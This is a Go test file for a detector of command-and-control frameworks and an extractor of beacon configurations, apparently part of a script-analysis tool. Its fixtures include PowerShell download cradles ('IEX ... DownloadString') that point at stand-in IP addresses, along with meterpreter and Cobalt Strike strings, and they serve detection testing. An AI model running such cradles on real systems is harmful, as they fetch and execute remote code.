package c2

import (
	"testing"

	"github.com/0xlayer/scriptscope/internal/catalog"
)

func mustDetector(t *testing.T) *Detector {
	t.Helper()
	d, err := NewDetector(catalog.Default())
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestDetectFrameworks(t *testing.T) {
	tests := []struct {
		name          string
		texts         []string
		wantFramework string
	}{
		{
			"cobalt strike profile",
			[]string{`set sleeptime 60000; beacon checkin via malleable profile http-get /pixel.gif`},
			"Cobalt Strike",
		},
		{
			"metasploit stager",
			[]string{`windows/meterpreter/reverse_tcp generated by msfvenom with ReflectiveLoader`},
			"Metasploit",
		},
		{
			"download cradle",
			[]string{`IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`},
			"Generic HTTP Stager",
		},
		{
			"benign",
			[]string{`Write-Host "hello world"`},
			"",
		},
		{
			"weak single hit stays below threshold",
			[]string{`the beacon on the hill`},
			"",
		},
	}

	d := mustDetector(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := d.Detect(tt.texts)
			if tt.wantFramework == "" {
				if got != nil {
					t.Errorf("expected no detection, got %+v", got)
				}
				return
			}
			if got == nil {
				t.Fatal("expected a detection, got nil")
			}
			if got.Framework != tt.wantFramework {
				t.Errorf("framework = %q, want %q", got.Framework, tt.wantFramework)
			}
			if got.Confidence <= 0.5 || got.Confidence > 1 {
				t.Errorf("confidence %f outside (0.5, 1]", got.Confidence)
			}
			if len(got.Matches) == 0 {
				t.Error("detection should carry its evidence")
			}
		})
	}
}

func TestDetectUsesRecoveredFragments(t *testing.T) {
	d := mustDetector(t)
	original := `$x = [Convert]::FromBase64String($blob)`
	recovered := `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s')`

	got := d.Detect([]string{original, recovered})
	if got == nil || got.Framework != "Generic HTTP Stager" {
		t.Fatalf("detection over fragments failed: %+v", got)
	}
	for _, m := range got.Matches {
		if m.Location != "recovered" {
			t.Errorf("evidence location = %q, want recovered", m.Location)
		}
	}
}

func TestExtractBeacon(t *testing.T) {
	tests := []struct {
		name        string
		texts       []string
		wantNil     bool
		wantServers int
		wantSleep   int
		wantUA      string
	}{
		{
			"full configuration",
			[]string{`sleep 60
jitter 20
User-Agent: Mozilla/5.0
connect http://198.51.100.7/a and http://c2.example.net/b`},
			false, 2, 60, "Mozilla/5.0",
		},
		{
			"ip only",
			[]string{`ping 203.0.113.5`},
			false, 1, 0, "",
		},
		{
			"nothing",
			[]string{`Write-Host "hello"`},
			true, 0, 0, "",
		},
		{
			"invalid octets rejected",
			[]string{`version 300.400.500.600`},
			true, 0, 0, "",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ExtractBeacon(tt.texts)
			if tt.wantNil {
				if got != nil {
					t.Errorf("expected nil config, got %+v", got)
				}
				return
			}
			if got == nil {
				t.Fatal("expected a config, got nil")
			}
			if len(got.Servers) != tt.wantServers {
				t.Errorf("servers = %v, want %d entries", got.Servers, tt.wantServers)
			}
			if got.SleepSeconds != tt.wantSleep {
				t.Errorf("sleep = %d, want %d", got.SleepSeconds, tt.wantSleep)
			}
			if got.UserAgent != tt.wantUA {
				t.Errorf("user-agent = %q, want %q", got.UserAgent, tt.wantUA)
			}
		})
	}
}
